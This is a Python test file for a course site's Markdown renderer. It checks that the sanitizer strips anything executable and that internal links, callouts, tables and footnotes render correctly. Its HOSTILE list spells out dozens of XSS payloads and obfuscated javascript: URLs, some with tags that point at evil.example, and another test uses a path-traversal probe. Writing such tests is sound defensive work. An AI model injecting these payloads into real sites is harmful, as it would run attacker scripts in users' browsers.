"""The renderer: our Markdown features work, and nothing executable survives hostile input."""

from html.parser import HTMLParser

import pytest

from lms.content.render import LinkContext, render_markdown
from lms.content.sanitize import ALLOWED_ATTRIBUTES, ALLOWED_TAGS

CTX = LinkContext(
    module_id="alpha", module_ids=frozenset({"alpha", "beta"}),
    lessons={"alpha": frozenset({"first", "second"}), "beta": frozenset({"only"})},
    glossary={"ndc": "National Drug Code"}, references={"koppel-2008": "Koppel R, et al. 2008."},
    asset_names=frozenset({"images/pocket.png"}),
)

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "![x](data:image/png;base64,iVBORw0KGgo=)",
    "![x](javascript:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](java&#x09;script:alert(1))",
    "[click](&#x6A;&#x61;&#x76;&#x61;script:alert(1))",
    "[click](  javascript:alert(1))",
    "<svg onload=alert(1)><circle r=10 /></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<iframe src="https://evil.example"></iframe>',
    '<object data="evil.swf"></object><embed src="evil.swf">',
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    "<style>body{display:none}</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<form action=https://evil.example><input name=p></form>",
    "<b><i><script>alert(1)</i></b></script>",
    "<a href='https://ok.example' onclick='alert(1)'>ok",
    "<<script>script>alert(1)<</script>/script>",
    "<!--<script>alert(1)</script>-->",
    "[x](https://ok.example \"title\" onmouseover=alert(1))",
    '[ok](https://ok.example "a" )<img src=x onerror=alert(2)>',
    "::: safety <img src=x onerror=alert(1)>\nbody\n:::",
    "| a |\n|---|\n| <script>alert(1)</script> |",
    "Term <script>\n: <img src=x onerror=alert(1)>",
    "text[^1]\n\n[^1]: <script>alert(1)</script>",
    '<details open ontoggle="alert(1)">x</details>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115'
    '&#0000099&#0000114&#0000105&#0000112&#0000116:alert(1)">x</a>',
    "[x](module:alpha\"onmouseover=\"alert(1))",
    "[x](glossary:ndc\" onmouseover=\"alert(1))",
]


class _Collector(HTMLParser):
    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def elements(html: str):
    collector = _Collector()
    collector.feed(html)
    return collector.elements


def assert_inert(html: str):
    for tag, attrs in elements(html):
        assert tag in ALLOWED_TAGS, f"tag <{tag}> survived"
        for name, value in attrs:
            rule = ALLOWED_ATTRIBUTES.get(tag, [])
            allowed = rule(tag, name, value) if callable(rule) else name in rule
            assert allowed, f"attribute {name}={value!r} on <{tag}> survived"
            assert not name.startswith("on")
            if name in ("href", "src"):
                lowered = "".join((value or "").split()).lower()
                assert lowered.startswith(("https://", "http://", "mailto:", "/", "#")), f"{name}={value!r}"


@pytest.mark.parametrize("source", HOSTILE)
def test_nothing_executable_survives(source):
    """Each hostile snippet renders to allow-listed tags, attributes and URL schemes only."""
    html = render_markdown(source, CTX).html
    assert_inert(html)
    assert "<script" not in html.lower()  # as text (escaped) is fine; as a tag it is not


def test_all_hostile_snippets_together():
    assert_inert(render_markdown("\n\n".join(HOSTILE), CTX).html)


def test_raw_html_is_shown_as_text():
    html = render_markdown("Use <b>bold</b> here", CTX).html
    assert "&lt;b&gt;bold&lt;/b&gt;" in html


def test_id_links_resolve_to_site_urls():
    html = render_markdown("[m](module:beta) [l](lesson:second) [l2](lesson:beta/only) [g](glossary:ndc) "
                           "[r](ref:koppel-2008) [w](https://www.ismp.org)", CTX).html
    assert 'href="/modules/beta"' in html
    assert 'href="/modules/alpha/second"' in html
    assert 'href="/modules/beta/only"' in html
    assert 'href="/glossary#ndc" class="glossary-term" title="National Drug Code"' in html
    assert 'href="/modules/alpha#ref-koppel-2008"' in html
    assert 'href="https://www.ismp.org" rel="noopener noreferrer"' in html


@pytest.mark.parametrize(("source", "message"), [
    ("[x](module:gamma)", "unknown module 'gamma'"),
    ("[x](lesson:third)", "unknown lesson 'third'"),
    ("[x](glossary:gtin)", "unknown glossary term 'gtin'"),
    ("[x](ref:nope)", "unknown reference 'nope'"),
    ("[x](other.md)", "unsupported link"),
    ("![x](images/missing.png)", "missing image"),
    ("![x](../../etc/passwd.png)", "unsafe image path"),
    ("![x](https://example.org/a.png)", "not remote URLs"),
    ("![x](images/pocket.svg)", "not a png"),
    ("::: warning\nx\n:::", "unknown callout kind 'warning'"),
    ("# Big title", "lessons start at ## headings"),
])
def test_problems_are_reported_with_their_line(source, message):
    result = render_markdown("intro\n\n" + source, CTX)
    assert [(line, msg) for line, msg in result.problems if message in msg] == [(3, result.problems[0][1])]
    assert_inert(result.html)


def test_callouts_tables_footnotes_deflists_and_anchors():
    source = ("## Scanning basics\n\n::: safety Never store an NDC as a number\nZeros vanish.\n:::\n\n"
              "| NDC | Digits |\n|:--|--:|\n| 0574-4072-05 | 10 |\n\nA claim[^1].\n\n[^1]: A note.\n\n"
              "GTIN\n: Global Trade Item Number.\n\n![Pocket](images/pocket.png)\n")
    result = render_markdown(source, CTX)
    html = result.html
    assert '<h2 id="scanning-basics">' in html
    assert '<aside class="callout callout-safety" role="note" aria-label="Safety">' in html
    assert "Safety: Never store an NDC as a number" in html
    assert '<th class="align-left">NDC</th>' in html and '<td class="align-right">10</td>' in html
    assert "style=" not in html, "inline styles would be blocked by the CSP"
    assert 'class="footnotes"' in html and "<dt>GTIN</dt>" in html
    assert 'src="/modules/alpha/assets/images/pocket.png"' in html
    assert result.toc == [(2, "scanning-basics", "Scanning basics")]
    assert result.callouts == {"safety"}
